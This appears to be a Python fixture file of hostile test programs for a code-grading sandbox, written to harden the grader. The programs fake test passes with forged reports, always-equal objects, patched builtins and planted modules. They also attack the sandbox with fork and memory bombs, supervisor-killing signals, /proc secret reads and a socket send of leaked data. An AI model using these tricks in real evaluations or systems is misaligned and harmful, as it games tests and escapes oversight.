"""Hostile programs for the code verifier. Each one tries to fake success, escape, leak or linger.

``earned`` is the most credit the program may get: 0.0, or the fraction of tests it really passes.
All programs target ``f(x) == 2 * x + 1`` (or the stdin/stdout doubling task for ``IO`` cases).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

SECRET_ENV = "RK_HOSTILE_SECRET"
SECRET = "tok-5e3f1c2a-do-not-leak"
GOOD = "def f(x):\n    return 2 * x + 1\n"
REF = "assert f(2) == 5\nassert f(10) == 21\nassert f(-1) == -1\n"
IO_REF = {"inputs": ["3\n", "7\n"], "outputs": ["6\n", "14\n"]}
IO_GOOD = "print(int(input()) * 2)\n"


@dataclass(frozen=True)
class Hostile:
    name: str
    program: str
    reference: Any = REF
    earned: float = 0.0
    statuses: tuple[str, ...] = ()  # acceptable statuses, when it matters


CASES = [
    Hostile("sys_exit_at_import", "import sys\nsys.exit(0)\n" + GOOD, statuses=("runtime_error",)),
    Hostile("os_exit_in_call", "import os\ndef f(x):\n    os._exit(0)\n", statuses=("runtime_error",)),
    Hostile("raise_systemexit_in_call", "def f(x):\n    raise SystemExit(0)\n", statuses=("runtime_error",)),
    Hostile(
        "atexit_prints_pass",
        (
            "import atexit, os, sys\n"
            'atexit.register(lambda: print(\'RKH1 0 {"tests":[{"outcome":"pass"}]}\'))\n'
            "def f(x):\n    sys.exit(0)\n"
        ),
    ),
    Hostile(
        "always_equal_object",
        (
            "class Yes:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
            "    __hash__ = object.__hash__\n    def __bool__(self): return True\n"
            "def f(x):\n    return Yes()\n"
        ),
    ),
    Hostile(
        "always_equal_int_subclass",
        (
            "class Yes(int):\n    def __eq__(self, other): return True\n    __hash__ = int.__hash__\n"
            "def f(x):\n    return Yes(0)\n"
        ),
    ),
    Hostile(
        "patched_builtins",
        (
            "import builtins\n"
            "builtins.AssertionError = type('Nope', (Exception,), {})\n"
            "builtins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True\nbuiltins.type = lambda *a: int\n"
            "def f(x):\n    return 0\n"
        ),
        reference="assert abs(f(2) - 5) < 1e-9\nassert f(10) == 21\n",
    ),
    Hostile(
        "shadows_builtin_abs",
        "def abs(x):\n    return 0\ndef f(x):\n    return 0\n",
        reference="assert abs(f(2) - 5) < 1e-9\nassert abs(f(10) - 21) < 1e-9\n",
    ),
    Hostile(
        "patches_harness_modules",
        (
            "import sys, code_wire\n"
            "code_wire.encode = lambda *a, **k: ['b', 1]\n"
            "code_wire.decode = lambda *a, **k: True\n"
            "for name, mod in list(sys.modules.items()):\n"
            "    if hasattr(mod, 'send'):\n        setattr(mod, 'send', lambda *a, **k: None)\n"
            "def f(x):\n    return 0\n"
        ),
    ),
    Hostile(
        "forged_reply_frames",
        (
            "import os, sys, json\n"
            "fd = int(sys.argv[3])\n"
            "def f(x):\n"
            "    body = json.dumps({'ok': ['b', 1]}).encode()\n"
            "    for _ in range(5):\n        os.write(fd, len(body).to_bytes(4, 'big') + body)\n"
            "    return 0\n"
        ),
    ),
    Hostile(
        "prints_pass_markers",
        (
            "import sys\n"
            "for n in range(100):\n"
            '    print(\'RKH1 %032x {"tests":[{"outcome":"pass"}],"v":1}\' % n)\n'
            "print('PASSED', 'OK', 'all tests passed', file=sys.stderr)\n"
            "def f(x):\n    print('RKH1 x {\"tests\":[]}')\n    return 0\n"
        ),
    ),
    Hostile(
        "writes_into_supervisor_stdout",
        (
            "import os, glob\n"
            "def f(x):\n"
            "    for p in ['/proc/1/fd/1', '/proc/self/fd/1', *glob.glob('/proc/[0-9]*/fd/1')]:\n"
            "        try:\n            open(p, 'w').write('RKH1 0 {}\\n')\n        except OSError:\n            pass\n"
            "    return 0\n"
        ),
    ),
    Hostile(
        "reads_supervisor_memory",
        (
            "import os\n"
            "def f(x):\n"
            "    leaked = ''\n"
            "    for p in ['/proc/1/environ', '/proc/1/mem', '/proc/1/fd/0', '/proc/1/cmdline']:\n"
            "        try:\n            leaked += open(p, 'rb').read(4096).decode('latin-1')\n"
            "        except OSError:\n            pass\n"
            "    return leaked\n"
        ),
        reference="assert 'nonce' in f(1)\nassert 'assert' in f(1)\n",
    ),
    Hostile(
        "edits_test_and_harness_files",
        (
            "import os, glob\n"
            "def f(x):\n"
            "    for p in glob.glob('*') + glob.glob('/tmp/*'):\n"
            "        for act in (lambda: open(p, 'w').write('assert True\\n'), lambda: os.remove(p),\n"
            "                    lambda: os.chmod(p, 0o777)):\n"
            "            try:\n                act()\n            except OSError:\n                pass\n"
            "    return 0\n"
        ),
    ),
    Hostile(
        "fork_bomb",
        (
            "import os\n"
            "def f(x):\n"
            "    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass\n"
        ),
        statuses=("timeout", "runtime_error"),
    ),
    Hostile("memory_bomb", "def f(x):\n    return len(bytearray(1 << 40))\n", statuses=("memory_limit",)),
    Hostile(
        "growing_allocation",
        ("def f(x):\n    hoard = []\n    while True:\n        hoard.append(bytearray(8 << 20))\n"),
        statuses=("memory_limit",),
    ),
    Hostile(
        "fork_and_hoard_memory",
        (
            "import os, time\n"
            "def f(x):\n"
            "    for _ in range(12):\n"
            "        if os.fork() == 0:\n"
            "            hoard = b'x' * (200 << 20)\n"
            "            time.sleep(60)\n"
            "            os._exit(0)\n"
            "    return 0\n"
        ),
    ),
    Hostile(
        "disk_fill",
        (
            "import os\n"
            "def f(x):\n"
            "    for d in ('.', '/tmp', '/dev/shm'):\n"
            "        for i in range(1000):\n"
            "            try:\n"
            "                with open(os.path.join(d, f'fill{i}'), 'wb') as fh:\n"
            "                    fh.write(b'x' * (8 << 20))\n"
            "            except OSError:\n                break\n"
            "    return 0\n"
        ),
    ),
    Hostile("stdout_flood", "def f(x):\n    while True:\n        print('x' * 10000)\n", statuses=("output_limit",)),
    Hostile(
        "stderr_flood",
        "import sys\ndef f(x):\n    while True:\n        sys.stderr.write('e' * 10000)\n",
        statuses=("output_limit",),
    ),
    Hostile("infinite_loop", "def f(x):\n    while True:\n        pass\n", statuses=("timeout",)),
    Hostile("sleeps", "import time\ndef f(x):\n    time.sleep(3600)\n", statuses=("timeout",)),
    Hostile(
        "ignores_signals",
        (
            "import signal\n"
            "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM, signal.SIGUSR1):\n"
            "    signal.signal(s, signal.SIG_IGN)\n"
            "def f(x):\n    while True:\n        pass\n"
        ),
        statuses=("timeout",),
    ),
    Hostile(
        "double_fork_daemon",
        (
            "import os, time\n"
            "def f(x):\n"
            "    if os.fork() == 0:\n"
            "        os.setsid()\n"
            "        if os.fork() == 0:\n"
            "            while True:\n                time.sleep(0.1)\n"
            "        os._exit(0)\n"
            "    return 0\n"
        ),
    ),
    Hostile(
        "thread_storm",
        (
            "import threading, time\n"
            "def f(x):\n"
            "    for _ in range(100000):\n"
            "        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()\n"
            "    return 2 * x + 1\n"
        ),
        statuses=("runtime_error", "timeout", "memory_limit"),
    ),
    Hostile("segfault", "import ctypes\ndef f(x):\n    return ctypes.string_at(0)\n", statuses=("runtime_error",)),
    Hostile("runaway_recursion", "def f(x):\n    return f(x) + 1\n", statuses=("runtime_error",)),
    Hostile(
        "deep_recursion_segfault",
        ("import sys\nsys.setrecursionlimit(10**8)\ndef g(n):\n    return g(n + 1) + 1\ndef f(x):\n    return g(0)\n"),
        statuses=("runtime_error", "timeout", "memory_limit"),
    ),
    Hostile("reads_stdin", "import sys\ndef f(x):\n    return int(sys.stdin.read() or 0)\n"),
    Hostile(
        "reads_env_secrets",
        (
            "import os, glob\n"
            "def f(x):\n"
            f"    found = os.environ.get({SECRET_ENV!r}, '')\n"
            "    for p in glob.glob('/proc/*/environ'):\n"
            "        try:\n            found += open(p, 'rb').read().decode('latin-1')\n"
            "        except OSError:\n            pass\n"
            "    print(found)\n"
            "    return found\n"
        ),
        reference="assert 'do-not' + '-leak' in f(1)\n",
    ),
    Hostile(
        "network_connect",
        (
            "import socket, os\n"
            "def f(x):\n"
            "    port = PORT\n"
            "    for host in ('127.0.0.1', '10.0.2.2', '1.1.1.1'):\n"
            "        try:\n"
            "            socket.create_connection((host, port), timeout=0.5).sendall(b'leak')\n"
            "            return 2 * x + 1\n"
            "        except OSError:\n            pass\n"
            "    return 0\n"
        ),
    ),
    Hostile(
        "kill_parent",
        (
            "import os, signal\n"
            "def f(x):\n"
            "    for s in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):\n"
            "        try:\n            os.kill(os.getppid(), s)\n        except OSError:\n            pass\n"
            "    return 0\n"
        ),
    ),
    Hostile(
        "kill_everything",
        (
            "import os, signal\n"
            "def f(x):\n"
            "    for s in (signal.SIGSTOP, signal.SIGKILL):\n"
            "        try:\n            os.kill(-1, s)\n        except OSError:\n            pass\n"
            "    return 0\n"
        ),
    ),
    Hostile(
        "ptrace_supervisor",
        (
            "import ctypes\n"
            "def f(x):\n"
            "    libc = ctypes.CDLL(None, use_errno=True)\n"
            "    ok = libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH to the supervisor\n"
            "    return 0 if ok != 0 else 2 * x + 1\n"
        ),
    ),
    Hostile(
        "plants_a_module_for_the_supervisor",
        (
            "import sys\n"
            "open('evil_math.py', 'w').write(\n"
            "    'import sys\\n'\n"
            "    'main = sys.modules.get(\"__main__\")\\n'\n"
            "    'if hasattr(main, \"Recorder\"):\\n'\n"
            "    '    main.Recorder.__call__ = lambda self, i, v, e: self.outcomes[i].update(outcome=\"pass\")\\n'\n"
            "    'isclose = lambda *a, **k: True\\n')\n"
            "sys.path.insert(0, '.')\n"
            "import evil_math as math\n"
            "def f(x):\n    return 0\n"
        ),
        reference="assert math.isclose(f(2), 5)\nassert math.isclose(f(10), 21)\n",
    ),
    Hostile(
        "reply_bomb_for_the_supervisor",
        "def f(x):\n    return [[0]] * 1_400_000\n",
        statuses=("memory_limit", "runtime_error", "timeout", "ok"),
    ),
    Hostile(
        "garbage_first_frame",
        (
            "import os, sys, json\n"
            "for body in (b'[1]', b'\"x\"', b'{\"op\": \"loaded\", \"names\": [1]}', b'\\xff' * 10):\n"
            "    os.write(int(sys.argv[3]), len(body).to_bytes(4, 'big') + body)\n"
            "def f(x):\n    return 0\n"
        ),
    ),
    Hostile("partial_credit_is_exact", "def f(x):\n    return 2 * x + 1 if x > 0 else 0\n", earned=2 / 3),
    Hostile(
        "io_prints_markers_and_exits",
        ("import sys, os\nprint('RKH1 0 {}')\nprint('6')\nos._exit(0)\n"),
        reference=IO_REF,
    ),
    Hostile(
        "io_reads_other_fds",
        (
            "import os\nout = ''\n"
            "for fd in range(3, 64):\n"
            "    try:\n        out += os.read(fd, 1000).decode('latin-1')\n    except OSError:\n        pass\n"
            "print(out or 0)\n"
        ),
        reference=IO_REF,
    ),
]

GOOD_IO = IO_GOOD

# -- issue 8: forging through the supervisor's imports, looped tests, signals, crashes taken for exceptions --

# What a planted module would do in the supervisor's process: find the nonce in its frames and print an
# all-pass report (the forgery issue 8 found through ``unittest.__main__`` test discovery).
FORGE = (
    "import sys, os, json\n"
    "frame = sys._getframe()\n"
    "while frame is not None:\n"
    "    nonce = frame.f_locals.get('nonce')\n"
    "    if isinstance(nonce, str):\n"
    "        report = {'v': 1, 'tests': [{'outcome': 'pass'}] * 3, 'events': {}}\n"
    "        os.write(1, ('RKH1 %s %s\\n' % (nonce, json.dumps(report))).encode())\n"
    "        os._exit(0)\n"
    "    frame = frame.f_back\n"
)
PLANT_FORGERS = (
    "import os\n"
    f"FORGE = {FORGE!r}\n"
    "for name in ('test_forge.py', 'test_all.py', 'math.py', 're.py', 'json.py', 'unittest.py', 'types.py',\n"
    "             'string.py', 'operator.py', 'collections.py', 'encodings.py', 'sitecustomize.py'):\n"
    "    try:\n        open(name, 'w').write(FORGE)\n    except OSError:\n        pass\n"
)
# Deliver a signal to the supervisor (our parent) as the kernel's async-I/O notice: F_SETOWN + F_SETSIG +
# O_ASYNC on a socketpair, which passes any kill() filter (issue 8, item 3c).
ASYNC_SIGNAL = (
    "import fcntl, os, signal, socket\n"
    "_held = []\n"
    "def async_signal(sig, pid=None):\n"
    "    a, b = socket.socketpair()\n"
    "    try:\n"
    "        fcntl.fcntl(a, fcntl.F_SETOWN, pid or os.getppid())\n"
    "        fcntl.fcntl(a, 10, int(sig))  # F_SETSIG\n"
    "        fcntl.fcntl(a, fcntl.F_SETFL, fcntl.fcntl(a, fcntl.F_GETFL) | os.O_ASYNC | os.O_NONBLOCK)\n"
    "        b.send(b'x')\n"
    "    except OSError:\n        pass\n"
    "    _held.append((a, b))\n"
)
CATCHABLE = (
    "SIGINT",
    "SIGTERM",
    "SIGALRM",
    "SIGUSR1",
    "SIGUSR2",
    "SIGHUP",
    "SIGQUIT",
    "SIGPIPE",
    "SIGIO",
    "SIGTSTP",
    "SIGTTIN",
    "SIGTTOU",
    "SIGVTALRM",
    "SIGPROF",
    "SIGWINCH",
    "SIGXCPU",
    "SIGXFSZ",
    "SIGSEGV",
    "SIGBUS",
    "SIGFPE",
    "SIGILL",
    "SIGABRT",
    "SIGTRAP",
    "SIGSYS",
    "SIGRTMIN",
    "SIGRTMAX",
    "SIGCONT",
)
PESTER = ASYNC_SIGNAL + (
    f"SIGS = [getattr(signal, n) for n in {CATCHABLE!r}]\n"
    "def pester():\n"
    "    for s in SIGS:\n"
    "        for pid in {os.getppid(), 1}:\n"
    "            try:\n                os.kill(pid, s)\n            except OSError:\n                pass\n"
    "        async_signal(s)\n"
    "pester()\n"
)
LOOP_REF = "for x in range(50):\n    assert f(x) == 2 * x + 1\n"
EVALPLUS_REF = {
    "test": (
        "def assertion(out, exp):\n    assert out == exp\n"
        "def check(candidate):\n"
        "    inputs = [[x] for x in range(40)]\n"
        "    results = [2 * x + 1 for x in range(40)]\n"
        "    for i, inp in enumerate(inputs):\n        assertion(candidate(*inp), results[i])\n"
    ),
    "entry_point": "f",
}
EXPECTS_RAISE_REF = {
    "test": (
        "def check(candidate):\n    assert candidate(2) == 5\n"
        "    try:\n        candidate(-1)\n        raised = False\n    except Exception:\n        raised = True\n"
        "    assert raised\n"
    ),
    "entry_point": "f",
}
BARE_EXCEPT_REF = {
    "test": (
        "def check(candidate):\n    assert candidate(2) == 5\n"
        "    raised = False\n    try:\n        candidate(-1)\n    except:\n        raised = True\n"
        "    assert raised\n"
    ),
    "entry_point": "f",
}
FIRST_THEN_HANG = "import time\ndef f(x):\n    if x:\n        time.sleep(3600)\n    return 2 * x + 1\n"
IMPORT_BAIT = (
    "unittest.__main__",
    "unittest",
    "this",
    "antigravity",
    "idlelib.idle",
    "idlelib.__main__",
    "json.tool",
    "venv.__main__",
    "ensurepip.__main__",
    "pydoc",
    "__main__",
    "site",
    "code_supervisor",
    "code_wire",
    "test_forge",
)

CASES += [
    Hostile(
        "module_proxy_unittest_main_forges", PLANT_FORGERS + "import types\nf = types.ModuleType('unittest.__main__')\n"
    ),
    Hostile(
        "module_proxy_unittest_main_humaneval",
        PLANT_FORGERS + ("import types\ncandidate = types.ModuleType('unittest.__main__')\n"),
        reference={"test": "def check(candidate):\n    assert candidate(2) == 5\n", "entry_point": "candidate"},
    ),
    *[
        Hostile(
            f"module_proxy_{name.replace('.', '_')}", PLANT_FORGERS + f"import types\nf = types.ModuleType({name!r})\n"
        )
        for name in IMPORT_BAIT
    ],
    Hostile(
        "class_named_module_with_a_stdlib_name",
        PLANT_FORGERS
        + (
            "class module:\n    __name__ = 'unittest.__main__'\n    __module__ = 'unittest.__main__'\n"
            "    def __call__(self, x):\n        return 0\nf = module()\n"
        ),
    ),
    Hostile("real_module_bound_to_a_test_name", PLANT_FORGERS + "import unittest.__main__ as f\n"),
    Hostile(
        "plants_stdlib_shadows_for_test_imports",
        PLANT_FORGERS + "def f(x):\n    return 0\n",
        reference="import math, re, json, collections\nassert math.isclose(f(2), 5)\nassert f(10) == 21\n",
    ),
    Hostile("looped_test_first_case_then_hang", FIRST_THEN_HANG, reference=LOOP_REF, statuses=("timeout",)),
    Hostile("evalplus_helper_first_case_then_hang", FIRST_THEN_HANG, reference=EVALPLUS_REF, statuses=("timeout",)),
    Hostile(
        "looped_test_first_case_then_crash",
        "import os\ndef f(x):\n    if x:\n        os._exit(0)\n    return 1\n",
        reference=LOOP_REF,
    ),
    Hostile(
        "looped_test_raises_outside_the_assert",
        "def f(x):\n    if x:\n        raise ValueError(x)\n    return 1\n",
        reference="for x in range(5):\n    got = f(x)\n    assert got == 2 * x + 1\n",
    ),
    Hostile(
        "helper_statement_passes_then_next_call_hangs",
        FIRST_THEN_HANG,
        reference="def one(x):\n    assert f(x) == 2 * x + 1\none(0)\none(1)\n",
        statuses=("timeout",),
    ),
    Hostile(
        "early_sigalrm_then_loop_hang",
        ASYNC_SIGNAL
        + (
            "import time\n"
            "def f(x):\n"
            "    if x == 0:\n"
            "        return 1\n"
            "    for pid in {os.getppid(), 1}:\n"
            "        try:\n            os.kill(pid, signal.SIGALRM)\n        except OSError:\n            pass\n"
            "    async_signal(signal.SIGALRM)\n"
            "    time.sleep(3600)\n"
        ),
        reference=LOOP_REF,
        statuses=("timeout",),
    ),
    Hostile(
        "early_sigalrm_after_the_first_test",
        ASYNC_SIGNAL
        + (
            "import time\n"
            "def f(x):\n"
            "    if x == 2:\n"
            "        return 5\n"
            "    for pid in {os.getppid(), 1}:\n"
            "        try:\n            os.kill(pid, signal.SIGALRM)\n        except OSError:\n            pass\n"
            "    async_signal(signal.SIGALRM)\n"
            "    time.sleep(0.3)\n"
            "    return 0\n"
        ),
        earned=1 / 3,
        statuses=("ok",),
    ),
    Hostile(
        "signals_the_supervisor_and_still_answers_right",
        PESTER + "def f(x):\n    pester()\n    return 2 * x + 1\n",
        earned=1.0,
        statuses=("ok",),
    ),
    Hostile("signals_the_supervisor_and_answers_wrong", PESTER + "def f(x):\n    pester()\n    return 0\n"),
    Hostile(
        "sigint_to_the_supervisor_then_fails",
        (
            "import os, signal\n"
            "def f(x):\n"
            "    for pid in {os.getppid(), 1}:\n"
            "        try:\n            os.kill(pid, signal.SIGINT)\n        except OSError:\n            pass\n"
            "    raise ValueError(x)\n"
        ),
    ),
    Hostile(
        "async_sigkill_and_sigstop_to_the_supervisor",
        ASYNC_SIGNAL
        + (
            "import time\n"
            "def f(x):\n"
            "    async_signal(signal.SIGSTOP)\n    time.sleep(0.2)\n    async_signal(signal.SIGCONT)\n"
            "    async_signal(signal.SIGKILL)\n    time.sleep(0.2)\n"
            "    return 0\n"
        ),
    ),
    Hostile(
        "async_sigstop_leaves_the_supervisor_stopped",
        ASYNC_SIGNAL + ("def f(x):\n    async_signal(signal.SIGSTOP)\n    return 0\n"),
        statuses=("ok", "runtime_error", "timeout"),
    ),
    Hostile(
        "io_signals_the_supervisor_and_answers_right",
        PESTER + "print(int(input()) * 2)\n",
        reference=IO_REF,
        earned=1.0,
        statuses=("ok",),
    ),
    Hostile("io_signals_the_supervisor_and_answers_wrong", PESTER + "print(0)\n", reference=IO_REF),
    Hostile(
        "stderr_fakes_a_tool_failure_then_floods",
        (
            "import sys\n"
            'sys.stderr.write("bwrap: Can\'t mount proc on /newroot/proc: Operation not permitted\\n")\n'
            "sys.stderr.flush()\n"
            "while True:\n    sys.stderr.write('e' * 10000)\n"
        ),
        statuses=("output_limit",),
    ),
    Hostile(
        "systemexit_and_base_exceptions_in_calls",
        (
            "import sys\n"
            "class Boom(BaseException):\n    pass\n"
            "def f(x):\n"
            "    raise [SystemExit(0), KeyboardInterrupt(), GeneratorExit(), Boom(), StopIteration()][x % 5]\n"
        ),
        reference="assert f(2) == 5\nassert f(10) == 21\nassert f(-1) == -1\nassert f(1) == 3\nassert f(3) == 7\n",
    ),
    Hostile(
        "exits_inside_dunder_methods_of_returned_objects",
        (
            "import os, sys\n"
            "class Bad:\n"
            "    def __eq__(self, other):\n        sys.exit(0)\n"
            "    def __hash__(self):\n        os._exit(0)\n"
            "    def __repr__(self):\n        sys.exit(0)\n"
            "    def __bool__(self):\n        sys.exit(0)\n"
            "    def __len__(self):\n        os._exit(0)\n"
            "    def __iter__(self):\n        sys.exit(0)\n"
            "    def __index__(self):\n        sys.exit(0)\n"
            "class Odd(int):\n    @property\n    def __class__(self):\n        return int\n"
            "    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
            "def f(x):\n    return [Bad(), {Bad(): 1}, Odd(2 * x + 1), [Bad()]][x % 4]\n"
        ),
        reference="assert f(2) == 5\nassert f(10) == 21\nassert f(-1) == -1\nassert f(0) == 1\n"
        "assert list(f(3)) == [7]\nassert len(f(4)) == 9\nassert f(5) in (11,)\n",
    ),
    Hostile(
        "exception_classes_named_like_builtins_and_harness",
        (
            "class AssertionError(Exception):\n    pass\n"
            "class Deadline(Exception):\n    pass\n"
            "class CandidateCrash(Exception):\n    pass\n"
            "def f(x):\n    raise [AssertionError('x'), Deadline(), CandidateCrash()][x % 3]\n"
        ),
        reference="assert f(2) == 5\nassert f(10) == 21\nassert f(-1) == -1\n",
    ),
    Hostile(
        "os_exit_taken_for_an_expected_exception",
        ("import os\ndef f(x):\n    if x < 0:\n        os._exit(1)\n    return 2 * x + 1\n"),
        reference=EXPECTS_RAISE_REF,
        earned=0.5,
    ),
    Hostile(
        "self_kill_inside_a_bare_except",
        (
            "import os, signal\ndef f(x):\n    if x < 0:\n        os.kill(os.getpid(), signal.SIGKILL)\n"
            "    return 2 * x + 1\n"
        ),
        reference=BARE_EXCEPT_REF,
        earned=0.5,
    ),
    Hostile(
        "crash_then_program_defined_flag",
        ("import os\nraised = True\ndef f(x):\n    if x < 0:\n        os._exit(1)\n    return 2 * x + 1\n"),
        reference="assert f(2) == 5\ntry:\n    f(-1)\n    raised = False\nexcept Exception:\n    raised = True\n"
        "assert raised\n",
        earned=0.5,
    ),
]

CASES += [
    Hostile(
        "stopiteration_ends_a_map_loop_early",
        ("def f(x):\n    if x:\n        raise StopIteration\n    return 1\n"),
        reference="for got, x in zip(map(f, range(5)), range(5)):\n    assert got == 2 * x + 1\n",
    ),
    Hostile(
        "program_defines_the_tests_helpers_and_harness_names",
        (
            "check = lambda candidate: None\nassertion = lambda out, exp: None\n"
            "__rk_record__ = __rk_commit__ = lambda *a: None\nDeadline = Exception\n"
            "def f(x):\n    return 0\n"
        ),
        reference=EVALPLUS_REF,
    ),
]

CASES += [
    Hostile(
        "crash_mid_loop_caught_by_a_bare_except",
        ("import os\ndef f(x):\n    if x:\n        os._exit(0)\n    return 1\n"),
        reference={
            "test": (
                "def check(candidate):\n    try:\n        for x in range(5):\n"
                "            got = candidate(x)\n            assert got == 2 * x + 1\n"
                "    except:\n        pass\n    assert candidate(0) == 1\n"
            ),
            "entry_point": "f",
        },
    ),
    Hostile(
        "deadline_swallowed_by_a_bare_except_around_a_loop",
        FIRST_THEN_HANG,
        reference={
            "test": (
                "def check(candidate):\n    try:\n        for x in range(5):\n"
                "            assert candidate(x) == 2 * x + 1\n    except:\n        pass\n"
            ),
            "entry_point": "f",
        },
        statuses=("timeout",),
    ),
]

DEEP_DIRS = (
    "import os\n"
    "def bury(top, depth):\n"
    "    try:\n        os.chdir(top)\n    except OSError:\n        return\n"
    "    for _ in range(depth):\n"
    "        try:\n            os.mkdir('d')\n            os.chdir('d')\n            open('f', 'w').close()\n"
    "        except OSError:\n            break\n"
)
CASES += [
    Hostile(
        "buries_directories_deeper_than_any_recursion",
        DEEP_DIRS
        + (
            "home = os.getcwd()\n"
            "for top in ('/tmp', '/dev/shm', home):\n    bury(top, 5000)\n"
            "os.chdir(home)\n"
            "def f(x):\n    return 0\n"
        ),
    ),
]
